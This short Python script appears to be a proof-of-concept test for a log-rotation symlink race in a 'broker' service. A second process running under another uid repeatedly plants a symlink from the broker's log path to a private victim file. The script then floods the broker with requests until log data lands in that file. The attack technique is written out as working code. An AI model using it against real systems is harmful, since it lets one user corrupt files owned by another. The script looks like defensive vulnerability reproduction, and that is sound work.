# the owner of the log's directory (another uid) wins the race at rotation: the broker appends to a file of the victim's
import sys; sys.path.insert(0,__import__('os').path.join(__import__('os').path.dirname(__import__('os').path.abspath(__file__)),'..','lib'))
from env import *; from xw import *
h=home('l2'); d=h+'/theirs'; os.makedirs(d); os.chown(d,1001,1001); os.chmod(d,0o755); os.chmod(h,0o755)
secret=h+'/victim.txt'; open(secret,'w').write('mine\n'); os.chmod(secret,0o600)
PB=[D,'run','-q','--no-prompt','-P=broker',f'--allow-read={h}',f'--allow-write={h}','broker/main.ts','--service','l.b','--json']
p=subprocess.Popen([*PB,'--log-file',d+'/broker.log'],cwd=R,env=env(h),stdout=subprocess.PIPE,stderr=subprocess.PIPE); print(p.stdout.readline()[:60])
att=subprocess.Popen(['setpriv','--reuid','1001','--regid','1001','--clear-groups','python3','-c',f'''
import os
while True:
    try: os.symlink("{secret}","{d}/broker.log"); print("planted",flush=True)
    except OSError: pass
'''],stdout=subprocess.PIPE)
s=connect(h+'/run/l.b.xpc'); t=time.time(); n=0
while time.time()-t<60 and os.path.getsize(secret)<10:
    r=call(s,{'type':'allocate','runtime_id':'r','processor_id':'p'*200,'timeout_secs':U(1)})
    call(s,{'type':'report_failure','connection_id':r['connection_id'],'side':'host','reason':'x'*1000}); n+=1
print('calls',n,'victim.txt',os.path.getsize(secret),'bytes:',open(secret).read(160)); print(os.popen(f'ls -la {d}').read())
att.kill(); print(stop(p))
